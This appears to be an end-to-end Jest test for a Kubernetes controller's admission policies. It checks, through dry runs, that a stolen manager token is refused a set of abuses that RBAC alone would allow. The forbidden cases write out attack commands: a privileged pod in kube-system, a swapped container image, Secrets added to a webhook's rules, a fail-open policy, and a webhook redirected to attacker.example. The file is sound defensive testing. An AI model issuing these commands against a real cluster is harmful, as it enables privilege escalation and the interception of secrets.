// The admission policies of config/policy bound what the manager's credentials can do, whatever
// its RBAC allows: every request below is made with a TokenRequest token of
// podgroup-system/podgroup-controller (bound to config/rbac's roles), as kubectl server-side dry
// runs (admission runs in full, nothing is stored). First without the policies' bindings: RBAC
// alone lets a stolen token do each forbidden thing. Then with them: each is refused with the
// policy's message, and what the manager does (create, adopt/release, bind and delete PodGroup
// pods; patch the caBundle) still passes. The deploy test runs the whole manager on that token
// with the policies installed.
import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import * as k8s from '@kubernetes/client-node';
import { installAdmissionPolicies, installCrds, localWebhookConfiguration } from '../../../hack/control-plane/manifests.js';
import { REPO_ROOT } from '../../../hack/control-plane/paths.js';
import { GROUP, KIND, VERSION } from '../../../src/api/podgroup.js';
import { adminKubectl, clusterState, createNamespace, eventually, namespaceNotTerminating, kubeConfig } from '../support/cluster.js';
import { core, createPodGroup, podGroupManifest } from '../support/podgroups.js';
import { serviceAccountKubeconfig } from '../support/security.js';

const kc = kubeConfig();
const admission = kc.makeApiClient(k8s.AdmissionregistrationV1Api);

interface Outcome {
  allowed: boolean;
  message: string;
}

describe("admission policies bounding the manager's ServiceAccount", () => {
  const tmp = mkdtempSync(join(tmpdir(), 'podgroup-guardrails-'));
  let ns: { name: string; remove: () => Promise<void> };
  let asManager: (args: string[], input?: string) => Outcome;
  const systemPod = `e2e-guardrails-${Date.now().toString(36)}`;

  const pod = (name: string, namespace: string, owner?: k8s.V1OwnerReference, extra: Partial<k8s.V1PodSpec> = {}): k8s.V1Pod => ({
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { name, namespace, ownerReferences: owner === undefined ? undefined : [owner] },
    // No scheduler serves this name: the pods stay Pending and nothing runs them.
    spec: { schedulerName: 'e2e-nobody', containers: [{ name: 'app', image: 'registry.example/web:1' }], ...extra },
  });

  beforeAll(async () => {
    await installCrds(clusterState());
    // As the cluster's start installs them (a test that deleted config/default took them too).
    installAdmissionPolicies(clusterState());
    await namespaceNotTerminating('podgroup-system');
    adminKubectl(['apply', '--server-side', '--force-conflicts', '-f', join(REPO_ROOT, 'config', 'manager', 'namespace.yaml')]);
    adminKubectl(['apply', '--server-side', '--force-conflicts', '-k', join(REPO_ROOT, 'config', 'rbac')]);
    const file = await serviceAccountKubeconfig('podgroup-system', 'podgroup-controller', tmp);
    asManager = (args, input) => {
      try {
        // --raw requests (bindings) carry dryRun=All in their URL instead.
        const dryRun = args.includes('--raw') ? [] : ['--dry-run=server'];
        return {
          allowed: true,
          message: execFileSync('kubectl', ['--kubeconfig', file, ...args, ...dryRun], { encoding: 'utf8', input, stdio: ['pipe', 'pipe', 'pipe'] }),
        };
      } catch (err) {
        return { allowed: false, message: String((err as { stderr?: string }).stderr ?? err) };
      }
    };
    ns = await createNamespace('e2e-guardrails');
    const owner = await createPodGroup(ns.name, podGroupManifest('owner', { replicas: 0 }));
    const ref: k8s.V1OwnerReference = { apiVersion: `${GROUP}/${VERSION}`, kind: KIND, name: 'owner', uid: owner.metadata?.uid ?? '', controller: true };
    await core.createNamespacedPod({ namespace: ns.name, body: pod('owned', ns.name, ref) });
    await core.createNamespacedPod({ namespace: ns.name, body: pod('bare', ns.name) });
    await core.createNamespacedPod({ namespace: 'kube-system', body: pod(systemPod, 'kube-system') });
    // The manager's own MutatingWebhookConfiguration (pointing at nothing that answers, matching
    // no pod of this test), whose caBundle the manager may keep current.
    await admission.deleteMutatingWebhookConfiguration({ name: 'podgroup-controller' }).catch(() => undefined);
    const webhook = localWebhookConfiguration(1);
    for (const w of webhook.webhooks ?? []) {
      w.objectSelector = { matchLabels: { 'e2e-guardrails': 'never-set' } };
    }
    await admission.createMutatingWebhookConfiguration({ body: webhook });
  });

  afterAll(async () => {
    installAdmissionPolicies(clusterState());
    await core.deleteNamespacedPod({ name: systemPod, namespace: 'kube-system', gracePeriodSeconds: 0 }).catch(() => undefined);
    await admission.deleteMutatingWebhookConfiguration({ name: 'podgroup-controller' }).catch(() => undefined);
    await ns?.remove();
    rmSync(tmp, { recursive: true, force: true });
  });

  const ownerRef = (): string => {
    const owned = JSON.parse(adminKubectl(['get', 'pod', 'owned', '-n', ns.name, '-o', 'json'])) as k8s.V1Pod;
    return JSON.stringify(owned.metadata?.ownerReferences?.[0]);
  };

  /** What a stolen token would do, and the policy message that must refuse it. */
  const forbidden = (): Array<[string, () => Outcome, RegExp]> => [
    [
      'create a privileged pod in kube-system (even one claiming a PodGroup owner)',
      () =>
        asManager(
          ['create', '-f', '-'],
          JSON.stringify(
            pod('evil', 'kube-system', JSON.parse(ownerRef()) as k8s.V1OwnerReference, {
              containers: [{ name: 'evil', image: 'registry.example/evil:1', securityContext: { privileged: true } }],
            }),
          ),
        ),
      /may not create pods in the system namespace kube-system/,
    ],
    [
      'create a pod no PodGroup controls',
      () => asManager(['create', '-f', '-'], JSON.stringify(pod('evil', ns.name))),
      /may create only pods controlled by a PodGroup/,
    ],
    [
      'patch the image of a running PodGroup pod',
      () =>
        asManager([
          'patch',
          'pod',
          'owned',
          '-n',
          ns.name,
          '--type',
          'json',
          '-p',
          '[{"op":"replace","path":"/spec/containers/0/image","value":"registry.example/evil:1"}]',
        ]),
      /may change only a pod's ownerReferences/,
    ],
    ["patch a PodGroup pod's labels", () => asManager(['label', 'pod', 'owned', '-n', ns.name, 'stolen=yes']), /may change only a pod's ownerReferences/],
    [
      'adopt a pod into a non-PodGroup controller',
      () =>
        asManager([
          'patch',
          'pod',
          'bare',
          '-n',
          ns.name,
          '--type',
          'merge',
          '-p',
          JSON.stringify({
            metadata: {
              ownerReferences: [{ apiVersion: 'apps/v1', kind: 'ReplicaSet', name: 'x', uid: '00000000-0000-0000-0000-000000000001', controller: true }],
            },
          }),
        ]),
      /may change only a pod's ownerReferences/,
    ],
    ['delete a pod no PodGroup controls', () => asManager(['delete', 'pod', 'bare', '-n', ns.name]), /may delete only pods controlled by a PodGroup/],
    ['delete a kube-system pod', () => asManager(['delete', 'pod', systemPod, '-n', 'kube-system']), /may not delete pods in the system namespace kube-system/],
    [
      'bind a kube-system pod to a node of its choosing',
      () =>
        asManager(
          ['create', '-f', '-', '--raw', `/api/v1/namespaces/kube-system/pods/${systemPod}/binding?dryRun=All`],
          JSON.stringify({ apiVersion: 'v1', kind: 'Binding', metadata: { name: systemPod }, target: { apiVersion: 'v1', kind: 'Node', name: 'kwok-node-0' } }),
        ),
      /may not create pods in the system namespace kube-system/,
    ],
    [
      'widen the webhook to every Secret written',
      () =>
        asManager([
          'patch',
          'mutatingwebhookconfiguration',
          'podgroup-controller',
          '--type',
          'json',
          '-p',
          '[{"op":"add","path":"/webhooks/0/rules/0/resources/-","value":"secrets"}]',
        ]),
      /may change only the caBundle/,
    ],
    [
      'make the webhook fail open',
      () =>
        asManager([
          'patch',
          'mutatingwebhookconfiguration',
          'podgroup-controller',
          '--type',
          'json',
          '-p',
          '[{"op":"replace","path":"/webhooks/0/failurePolicy","value":"Ignore"}]',
        ]),
      /may change only the caBundle/,
    ],
    [
      'point the webhook elsewhere',
      () =>
        asManager([
          'patch',
          'mutatingwebhookconfiguration',
          'podgroup-controller',
          '--type',
          'json',
          '-p',
          '[{"op":"replace","path":"/webhooks/1/clientConfig/url","value":"https://attacker.example/mutate"}]',
        ]),
      /may change only the caBundle/,
    ],
  ];

  /** What the manager does, which must keep working under the policies. */
  const ownWork = (): Array<[string, () => Outcome]> => [
    [
      'create a PodGroup pod',
      () => asManager(['create', '-f', '-'], JSON.stringify(pod('replacement', ns.name, JSON.parse(ownerRef()) as k8s.V1OwnerReference))),
    ],
    [
      'release a PodGroup pod (remove its ownerReference)',
      () => asManager(['patch', 'pod', 'owned', '-n', ns.name, '--type', 'json', '-p', '[{"op":"remove","path":"/metadata/ownerReferences"}]']),
    ],
    [
      'adopt an orphan into a PodGroup',
      () =>
        asManager([
          'patch',
          'pod',
          'bare',
          '-n',
          ns.name,
          '--type',
          'merge',
          '-p',
          JSON.stringify({ metadata: { ownerReferences: [JSON.parse(ownerRef()) as object] } }),
        ]),
    ],
    ['delete a PodGroup pod', () => asManager(['delete', 'pod', 'owned', '-n', ns.name])],
    [
      'bind a PodGroup pod',
      () =>
        asManager(
          ['create', '-f', '-', '--raw', `/api/v1/namespaces/${ns.name}/pods/owned/binding?dryRun=All`],
          JSON.stringify({ apiVersion: 'v1', kind: 'Binding', metadata: { name: 'owned' }, target: { apiVersion: 'v1', kind: 'Node', name: 'kwok-node-0' } }),
        ),
    ],
    [
      "patch the webhook's caBundle",
      () =>
        asManager([
          'patch',
          'mutatingwebhookconfiguration',
          'podgroup-controller',
          '--type',
          'json',
          '-p',
          `[{"op":"add","path":"/webhooks/0/clientConfig/caBundle","value":"${Buffer.from('-----BEGIN CERTIFICATE-----\n').toString('base64')}"}]`,
        ]),
    ],
  ];

  it("without the policies, RBAC alone lets the manager's token do each forbidden thing", async () => {
    adminKubectl(['delete', 'validatingadmissionpolicybinding', 'podgroup-controller-pods', 'podgroup-controller-webhook-configuration']);
    for (const [what, attempt] of forbidden()) {
      const outcome = await eventually(
        `${what}: allowed without the policies`,
        () => {
          const o = attempt();
          return o.allowed ? o : undefined;
        },
        30_000,
        250,
      );
      expect(outcome.allowed).toBe(true);
    }
  });

  it("with config/policy, each is refused with its reason, and the manager's own work passes", async () => {
    installAdmissionPolicies(clusterState());
    for (const [what, attempt, message] of forbidden()) {
      const outcome = await eventually(
        `${what}: refused by the policy`,
        () => {
          const o = attempt();
          return o.allowed ? undefined : o;
        },
        30_000,
        250,
      );
      expect(outcome.message).toMatch(/ValidatingAdmissionPolicy 'podgroup-controller-[a-z-]+' with binding 'podgroup-controller-[a-z-]+' denied request/);
      expect(outcome.message).toMatch(message);
    }
    for (const [what, attempt] of ownWork()) {
      const outcome = attempt();
      if (!outcome.allowed) {
        throw new Error(`${what}: refused: ${outcome.message}`);
      }
    }
    // The same token, outside the pods and the webhook configuration, is not bounded by the
    // policies (RBAC decides): e.g. a PodGroup status patch is unaffected.
    expect(
      asManager([
        'patch',
        'podgroups.podgroup.dev',
        'owner',
        '-n',
        ns.name,
        '--subresource',
        'status',
        '--type',
        'merge',
        '-p',
        '{"status":{"observedGeneration":1}}',
      ]).allowed,
    ).toBe(true);
  });
});
